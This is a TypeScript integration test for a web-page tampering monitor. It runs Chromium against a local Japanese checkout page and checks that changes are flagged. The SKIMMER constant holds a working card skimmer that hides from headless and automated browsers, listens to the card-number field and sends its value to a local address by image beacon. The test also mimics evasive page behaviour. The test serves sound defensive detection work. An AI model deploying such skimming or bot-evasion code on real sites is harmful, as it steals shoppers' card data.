// `watch page` with a real Chromium against a real page: approved, then tampered with as skimmers do, then one that does all it can not
// to be looked at.

import assert from "node:assert/strict";
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { test } from "node:test";
import { createWatchPageActs } from "../../src/main/watch/page-acts.ts";
import { pan, systemClock, systemRandom } from "../../src/kernel/index.ts";
import { lookAtPage, readApproved } from "../../src/watch/index.ts";
import { decoyHash, openDecoys } from "../../src/scrub/index.ts";
import { CHROMIUM, noBrowser } from "./chromium.ts";

const CHECKOUT = `<!doctype html><html lang="ja"><head><meta charset="utf-8"><script src="/app.js?v=1"></script>
<script src="http://localhost:PORT/cdn.js" defer></script></head><body>
<form action="/pay" method="post"><input name="card_number" autocomplete="cc-number"><input name="security_code">
<button id="pay">注文を確定する</button></form><script>var csrf_token = "TOKEN"; window.shop = 1;</script>MORE</body></html>`;
/** Shows itself to phones that come from a search and to no machine, listens to the card field, sends it away. */
const SKIMMER = `<script>
const brands = (navigator.userAgentData?.brands ?? []).map(({ brand }) => brand).join();
const isMachine = navigator.webdriver || /Headless/.test(navigator.userAgent + brands) || navigator.languages.length === 0 ||
  outerWidth === 0 || Object.keys(window).concat(Object.keys(document)).some((key) => /^(?:cdc_|__playwright|__pw|callPhantom|_selenium)/.test(key));
if (!isMachine) {
document.querySelector("[name=card_number]").addEventListener("blur", (event) => {
  new Image().src = "http://127.0.0.1:9/" + event.target.value; });
fetch("http://127.0.0.1:9/hello").catch(() => undefined);
}</script>`;
const KEY = new Uint8Array(32).fill(3);
/** Nobody's number, with a right check digit. */
const DECOY = "3594027183645190";
const POLICY =
  "default-src 'self'; script-src 'self' 'nonce-TOKEN' http://localhost:PORT; form-action 'self'";
/** Fifty megabytes with ten thousand scripts. */
const HUGE = `<!doctype html>${Array.from({ length: 10_000 }, (_, n) => `<script>var a${n} = ${n};</script>`).join("")}`;

test(
  "a page is approved, found the same, and a skimmer that shows itself to phones alone is an alarm",
  { skip: noBrowser },
  async (t) => {
    let isTampered = false;
    let isHostile = false;
    let paid = 0;
    const server = createServer((request, response) => {
      if (request.method === "POST") paid += 1;
      const path = (request.url ?? "/").split("?")[0];
      const isPhone = /Mobile/.test(request.headers["user-agent"] ?? "");
      const { port } = server.address() as AddressInfo;
      if (isHostile && path === "/checkout") {
        if (!isPhone) return void response.end(HUGE.padEnd(50 * 1024 * 1024));
        // Head and beginning come, the rest never does.
        if (/google/.test(request.headers.referer ?? "")) return void response.write("<!doctype html>");
        return void response.writeHead(302, { location: `http://localhost:${port}/` }).end();
      }
      if (path === "/app.js" || path === "/cdn.js") {
        response.setHeader("content-type", "text/javascript");
        if (path === "/cdn.js") response.setHeader("access-control-allow-origin", "*");
        response.end(path === "/cdn.js" ? "1;" : "document.addEventListener('submit', () => undefined);");
        return;
      }
      const isPhoneFromSearch = isPhone && /google/.test(request.headers.referer ?? "");
      const filled = (text: string): string =>
        text.replaceAll("PORT", String(port)).replace("TOKEN", crypto.randomUUID().replaceAll("-", ""));
      response.setHeader("content-type", "text/html; charset=utf-8");
      response.setHeader(
        "content-security-policy",
        filled(isTampered ? POLICY.replace("'self';", "*;") : POLICY),
      );
      response.setHeader("set-cookie", filled("sid=TOKEN; HttpOnly"));
      if (path === "/")
        response.end('<a id="go" href="/checkout">レジへ</a>' + (isHostile ? `<p>${DECOY}</p>` : ""));
      else response.end(filled(CHECKOUT.replace("MORE", isTampered && isPhoneFromSearch ? SKIMMER : "")));
    }).listen(0, "127.0.0.1");
    const folder = mkdtempSync(join(tmpdir(), "misemori-page-look-"));
    t.after(() => {
      server.closeAllConnections();
      server.close();
      rmSync(folder, { recursive: true });
    });
    await new Promise((resolve) => server.once("listening", resolve));
    const { port } = server.address() as AddressInfo;
    const acts = createWatchPageActs(process.env);
    const wish = {
      name: "checkout",
      url: `http://127.0.0.1:${port}/checkout`,
      steps: null as string | null,
      approvedFile: join(folder, "pages", "checkout.json"),
      recordsFolder: null,
      chromiumPath: null,
      dwellMs: 300,
      language: "ja" as const,
      gone: new AbortController().signal,
      onProgress: () => undefined,
    };
    const first = await acts.watchPage(wish);
    assert.ok(first.ok && first.value.inventory !== null, JSON.stringify(first));
    assert.equal(first.value.changes, null);
    const { scripts, forms, listeners, heads } = first.value.inventory;
    assert.deepEqual(
      scripts.map(({ kind }) => kind),
      ["file", "inline", "file"],
    );
    assert.deepEqual(heads?.[0]?.fields.at(-1), ["set-cookie", "sid: httponly"]);
    const lines = first.value.integrity?.map(({ line }) => line?.replace(/sha384-[\w+/=]{64}/, "HASH"));
    assert.deepEqual(lines, [
      '<script src="/app.js?v=1" integrity="HASH"></script>',
      `<script src="http://localhost:${port}/cdn.js" integrity="HASH" crossorigin="anonymous" defer></script>`,
    ]);
    assert.deepEqual(forms[0]?.fields, ["card_number", "security_code"]);
    assert.ok(listeners.every(({ script }) => script.endsWith("/app.js")));
    const approval = { by: "cli:花子", why: "開店", notes: null, report: first.value };
    assert.ok((await acts.approvePage({ ...wish, ...approval })).ok);

    const same = await acts.watchPage({ ...wish, steps: '[{"open":"/"},{"click":"#go"}]' });
    assert.ok(same.ok);
    assert.deepEqual(same.value.changes, []);

    isTampered = true;
    const found = await acts.watchPage(wish);
    assert.ok(found.ok && found.value.changes !== null);
    const changes = found.value.changes;
    assert.deepEqual(changes.map(({ kind, seenBy }) => `${kind} ${seenBy?.join() ?? "all"}`).toSorted(), [
      "host-new phone-from-search",
      "listener-new phone-from-search",
      "policy-weaker all",
      "script-new phone-from-search",
    ]);
    assert.ok(changes.every(({ weight }) => weight === "alarm"));
    isTampered = false;

    isHostile = true;
    const hostile = await lookAtPage({
      ...wish,
      steps: [],
      approved: (await readApproved(wish.approvedFile))?.page ?? null,
      chromiumPath: CHROMIUM,
      clock: systemClock(),
      random: systemRandom(),
      guardReportPath: "/__misemori/csp",
      proofs: {
        decoys: openDecoys(KEY, [{ id: "dc_1", hash: decoyHash(KEY, pan(DECOY)) }]),
        placeOf: () => "備考",
        isPlanted: () => false,
      },
      stepMs: 8_000,
    });
    isHostile = false;
    assert.deepEqual(
      hostile.visits.map(({ inventory }) => inventory?.beyond?.join() ?? inventory?.url),
      ["scripts", undefined, `http://localhost:${port}/`],
    );
    assert.match(hostile.visits[1]?.trouble ?? "", /Timeout 8000ms/);
    const hostileKinds = new Set(
      (hostile.changes ?? []).map(({ kind, seenBy }) => `${kind} ${seenBy?.join() ?? "all"}`),
    );
    for (const one of ["too-many desktop", "page-away phone-from-line", "decoy-shown phone-from-line"])
      assert.ok(hostileKinds.has(one), one);

    const paying = await acts.watchPage({ ...wish, steps: '[{"open":"/checkout"},{"click":"#pay"}]' });
    assert.ok(paying.ok && paying.value.inventory === null);
    assert.match(paying.value.visits[0]?.trouble ?? "", /would pay/);
    assert.equal(paid, 0);

    writeFileSync(wish.approvedFile, readFileSync(wish.approvedFile, "utf8").slice(0, 200));
    const damaged = await acts.watchPage(wish);
    assert.ok(!damaged.ok && damaged.code === "watch.page-file");
    assert.ok(!existsSync(`${wish.approvedFile}.part`));
  },
);
